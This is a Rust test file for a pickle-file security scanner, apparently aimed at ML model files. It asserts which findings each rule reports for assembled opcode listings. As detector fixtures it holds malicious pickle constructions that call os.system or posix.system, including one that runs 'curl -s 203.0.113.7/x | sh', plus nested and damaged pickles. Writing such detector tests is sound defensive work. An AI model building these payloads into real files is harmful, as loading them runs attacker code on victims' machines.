//! What each rule says of assembled pickles, and that it says nothing of honest ones.

use super::RULES;
use crate::Check;
use wellhead_core::{ArtifactPath, Blob, Budget, Finding, Sink};
use wellhead_formats::pickle::{Hints, analyse, assemble::assemble};

pub(super) fn findings(listing: &str) -> Vec<Finding> {
    let blob = Blob::from_bytes(assemble(listing).unwrap());
    let program = analyse(&blob, Hints::default(), &mut Budget::default());
    let mut sink = Sink::new(ArtifactPath::file("model.pkl"));
    for registered in RULES {
        #[allow(irrefutable_let_patterns, reason = "other families look at other things")]
        if let Check::Pickle(check) = registered.check {
            check(&program, &mut sink);
        }
    }
    sink.into_findings()
}

fn said(listing: &str) -> String {
    let lines: Vec<_> = findings(listing)
        .iter()
        .map(|f| format!("{} {}: {}", f.severity, f.rule, f.message))
        .collect();
    lines.join("\n")
}

#[test]
fn a_dangerous_call_is_critical_and_shows_its_opcodes() {
    let found = findings(
        "PROTO 2\nGLOBAL 'posix system'\nBINPUT 0\nBINUNICODE 'curl -s 203.0.113.7/x | sh'\nTUPLE1\nREDUCE\nSTOP",
    );
    assert_eq!(found.len(), 1);
    let f = &found[0];
    assert_eq!(f.message, "loading this file runs `posix.system`");
    assert_eq!(f.severity.name(), "critical");
    let e = f.primary().unwrap().excerpt.as_ref().unwrap();
    let shown: Vec<_> = e
        .lines
        .iter()
        .map(|l| format!("{} {}", l.number, l.text))
        .collect();
    assert_eq!(
        shown,
        [
            "1 0x02  GLOBAL      'posix system'",
            "3 0x12  BINUNICODE  'curl -s 203.0.113.7/x | sh'",
            "5 0x32  REDUCE"
        ]
    );
    let marks: Vec<_> = e.marks.iter().map(|m| (m.label.as_str(), m.primary)).collect();
    assert_eq!(
        marks,
        [
            ("imported here", false),
            ("with this argument", false),
            ("called as soon as the file is read", true)
        ]
    );
}

#[test]
fn one_finding_a_name_by_its_worst_use() {
    for (listing, is) in [
        (
            "GLOBAL 'os system'\nSTOP",
            "high unsafe-pickle-import: this file refers to `os.system`, which runs programs, or changes files, of the operating system",
        ),
        (
            "GLOBAL 'copyreg _reconstructor'\nGLOBAL 'os system'\nGLOBAL 'builtins object'\nNONE\nTUPLE3\nREDUCE\nSTOP",
            "critical unsafe-pickle-import: loading this file runs `os.system`",
        ),
        (
            "GLOBAL 'numpy ndarray'\nGLOBAL 'os system'\nTUPLE1\nREDUCE\nSTOP",
            "critical unsafe-pickle-import: loading this file hands `os.system` to `numpy.ndarray`, which can call it",
        ),
        (
            "PROTO 2\nGLOBAL 'commands getoutput'\nBINUNICODE 'x'\nTUPLE1\nREDUCE\nSTOP",
            "critical unsafe-pickle-import: loading this file runs `subprocess.getoutput`",
        ),
        (
            "GLOBAL 'x Y'\nSTOP",
            "medium unknown-pickle-import: loading this file imports `x.Y`, and so runs the module that holds it",
        ),
        (
            "GLOBAL 'x Y'\nEMPTY_TUPLE\nNEWOBJ\nNONE\nBUILD\nSTOP",
            "high unknown-pickle-import: loading this file makes an instance of `x.Y`, and what that does is not known",
        ),
        (
            "GLOBAL 'x y'\nEMPTY_TUPLE\nREDUCE\nSTOP",
            "high unknown-pickle-import: loading this file calls `x.y`, and what that does is not known",
        ),
        (
            "GLOBAL 'builtins str'\nEMPTY_TUPLE\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP",
            "high unknown-pickle-import: loading this file calls what `builtins.str` returned",
        ),
        (
            "EXT1 5\nSTOP",
            "high unknown-pickle-import: loading this file takes a callable from the registry of `copyreg` by the code 5",
        ),
        (
            "GLOBAL 'builtins len'\nBINUNICODE ''\nTUPLE1\nREDUCE\nSTOP",
            "high unknown-pickle-import: loading this file calls `builtins.len`, and what that does is not known",
        ),
        (
            "GLOBAL 'numpy sqrt'\nEMPTY_DICT\nBINUNICODE 'a'\nNONE\nSETITEM\nBUILD\nSTOP",
            "critical unsafe-pickle-import: loading this file overwrites `numpy.sqrt.a` for the whole program",
        ),
        (
            "GLOBAL 'torch._utils _rebuild_tensor_v2'\nEMPTY_TUPLE\nREDUCE\nBININT1 1\nNONE\nSETITEM\nSTOP",
            "high unknown-pickle-import: loading this file puts items into an instance of `torch._utils._rebuild_tensor_v2`, which is not known to hold any",
        ),
        (
            "NONE\nRAW hex:ff",
            "high pickle-damaged: this pickle breaks after its code has run: it goes on with byte 0xff, which is no opcode",
        ),
        (
            "EMPTY_DICT\nNONE",
            "medium pickle-damaged: this pickle is cut off: what stands before the cut runs when it is loaded",
        ),
        (
            "NONE\nSTOP\nRAW 'text behind'",
            "low pickle-damaged: 11 bytes that no loader reads stand behind the pickle",
        ),
        (
            "INT 0x10\nSTOP",
            "high pickle-differential: loaders and scanners read different programs from this file",
        ),
    ] {
        assert_eq!(said(listing), is, "{listing}");
    }
    let many = "GLOBAL 'os system'\nBINUNICODE 'x'\nTUPLE1\nREDUCE\nPOP\n".repeat(50);
    assert_eq!(findings(&format!("{many}NONE\nSTOP")).len(), 1);
}

#[test]
fn hidden_pickles_are_judged_by_what_they_do() {
    for (inner, outer, is) in [
        (
            "GLOBAL 'posix system'\nBINUNICODE 'x'\nTUPLE1\nREDUCE\nSTOP",
            "",
            "critical nested-pickle: a pickle hidden in a constant runs `posix.system`, which runs when somebody loads it",
        ),
        (
            "PROTO 2\nEMPTY_DICT\nBINPUT 0\nNONE\nPOP\nSTOP",
            "",
            "medium nested-pickle: a pickle is hidden in a constant, which runs when somebody loads it",
        ),
        (
            "PROTO 2\nEMPTY_DICT\nBINPUT 0\nNONE\nPOP\nSTOP",
            "GLOBAL 'torch.storage _load_from_bytes'\n",
            "",
        ),
        (
            "GLOBAL 'a b'\nEMPTY_TUPLE\nREDUCE\nSTOP",
            "GLOBAL 'torch.storage _load_from_bytes'\n",
            "high nested-pickle: a pickle hidden in a constant uses `a.b`, which `torch.storage._load_from_bytes` loads",
        ),
    ] {
        let hex: String = assemble(inner)
            .unwrap()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let call = if outer.is_empty() { "" } else { "TUPLE1\nREDUCE\n" };
        assert_eq!(said(&format!("{outer}BINBYTES hex:{hex}\n{call}STOP")), is);
    }
}

/// A state dictionary, as torch writes it, and other things that honest libraries write.
#[test]
fn honest_pickles_are_silent() {
    for listing in [
        "PROTO 2\nGLOBAL 'collections OrderedDict'\nEMPTY_TUPLE\nREDUCE\nMARK\nBINUNICODE 'weight'\nGLOBAL 'torch._utils _rebuild_tensor_v2'\nMARK\nMARK\nBINUNICODE 'storage'\nGLOBAL 'torch FloatStorage'\nBINUNICODE '0'\nBINUNICODE 'cpu'\nBININT1 4\nTUPLE\nBINPERSID\nBININT1 0\nBININT1 2\nBININT1 2\nTUPLE2\nBININT1 2\nBININT1 1\nTUPLE2\nNEWFALSE\nGLOBAL 'collections OrderedDict'\nEMPTY_TUPLE\nREDUCE\nTUPLE\nREDUCE\nSETITEMS\nEMPTY_DICT\nBINUNICODE '_metadata'\nGLOBAL 'collections OrderedDict'\nEMPTY_TUPLE\nREDUCE\nSETITEM\nBUILD\nSTOP",
        "PROTO 2\nGLOBAL 'numpy.core.multiarray _reconstruct'\nGLOBAL 'numpy ndarray'\nBININT1 0\nTUPLE1\nGLOBAL '_codecs encode'\nBINUNICODE 'b'\nBINUNICODE 'latin1'\nTUPLE2\nREDUCE\nTUPLE3\nREDUCE\nNONE\nBUILD\nSTOP",
        "PROTO 2\nGLOBAL 'transformers.training_args TrainingArguments'\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nMARK\nBINUNICODE 'lr'\nBINFLOAT 0.1\nBINUNICODE 's'\nGLOBAL 'transformers.trainer_utils IntervalStrategy'\nBINUNICODE 'steps'\nTUPLE1\nREDUCE\nSETITEMS\nBUILD\nSTOP",
        "PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'transformers.trainer_utils IntervalStrategy'\nBINUNICODE 'STEPS'\nTUPLE2\nREDUCE\nSTOP",
        "PROTO 0\nGLOBAL 'copy_reg _reconstructor'\nMARK\nGLOBAL 'sklearn.linear_model._base LinearRegression'\nGLOBAL '__builtin__ object'\nNONE\nTUPLE\nREDUCE\nEMPTY_DICT\nBUILD\nSTOP",
        "PROTO 4\nGLOBAL 'collections defaultdict'\nGLOBAL 'builtins list'\nTUPLE1\nREDUCE\nSTOP",
        "PROTO 4\nGLOBAL 'functools partial'\nGLOBAL 'builtins int'\nTUPLE1\nREDUCE\nMARK\nGLOBAL 'builtins int'\nEMPTY_TUPLE\nEMPTY_DICT\nNONE\nTUPLE\nBUILD\nSTOP",
        "NONE\nSTOP\nRAW hex:00000000000000000000",
    ] {
        assert_eq!(said(listing), "", "{listing}");
    }
    let sneaky = said(
        "PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'collections OrderedDict'\nBINUNICODE '__init__'\nTUPLE2\nREDUCE\nSTOP",
    );
    assert!(
        sneaky.contains("critical unsafe-pickle-import: loading this file runs `builtins.getattr`"),
        "{sneaky}"
    );
}

#[test]
fn text_from_the_file_is_escaped() {
    let said = said("RAW 'ca\\x1b[31m\\nb`c\\n'\nEMPTY_TUPLE\nREDUCE\nSTOP");
    assert!(said.contains("`a\\x1b[31m.b'c`"), "{said}");
}
